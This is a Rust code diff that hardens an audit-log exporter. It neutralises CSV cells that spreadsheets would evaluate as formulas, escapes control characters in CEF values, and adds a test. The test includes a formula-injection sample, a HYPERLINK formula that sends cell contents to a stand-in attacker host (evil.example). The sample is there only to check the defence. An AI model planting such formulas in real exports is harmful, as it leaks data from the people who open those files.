@@ -58,7 +58,21 @@ impl Format {
     }
 }
 
+/// Neutralises a CSV cell that a spreadsheet would evaluate as a formula (OWASP's rule:
+/// a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
+/// which spreadsheets show as text and do not evaluate).
+fn csv_cell(value: String) -> String {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}"),
+        _ => value,
+    }
+}
+
 fn csv_record(e: &AuditEvent) -> [String; 15] {
+    csv_fields(e).map(csv_cell)
+}
+
+fn csv_fields(e: &AuditEvent) -> [String; 15] {
     let ev = &e.event;
     [
         iso(ev.timestamp),
@@ -106,12 +120,14 @@ fn cef_header(s: &str) -> String {
         .replace(['\r', '\n'], " ")
 }
 
-/// Escapes a CEF extension value: backslash, equals sign, line breaks.
+/// Escapes a CEF extension value: backslash, equals sign, line breaks; any other control
+/// character (which input validation refuses, but older rows may hold) becomes a space.
 fn cef_value(s: &str) -> String {
     s.replace('\\', "\\\\")
         .replace('=', "\\=")
         .replace('\r', "\\r")
         .replace('\n', "\\n")
+        .replace(|c: char| c.is_control(), " ")
 }
 
 pub fn cef_line(e: &AuditEvent) -> String {
@@ -251,6 +267,29 @@ mod tests {
         let rows: Vec<csv::StringRecord> = r.records().filter_map(Result::ok).collect();
         assert_eq!(rows.len(), 1);
         assert_eq!(&rows[0][4], "line one\nline, \"two\"");
+    }
+
+    #[test]
+    fn csv_cells_that_spreadsheets_would_evaluate_are_neutralised() {
+        let formula = r#"=HYPERLINK("http://evil.example/?d="&A2,"Open")"#;
+        for (value, want) in [
+            (formula, format!("'{formula}")),
+            ("+1+1", "'+1+1".to_string()),
+            ("-2", "'-2".to_string()),
+            ("@SUM(A1)", "'@SUM(A1)".to_string()),
+            ("\tx", "'\tx".to_string()),
+            ("\rx", "'\rx".to_string()),
+            ("plain = text", "plain = text".to_string()),
+        ] {
+            let mut e = event("d");
+            e.event.actor.name = value.to_string();
+            let out = String::from_utf8(csv_chunk(&[e], false)).expect("utf-8");
+            let mut r = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(out.as_bytes());
+            let row = r.records().next().expect("a row").expect("a record");
+            assert_eq!(&row[1], want.as_str(), "{value:?}");
+        }
     }
 
     #[test]
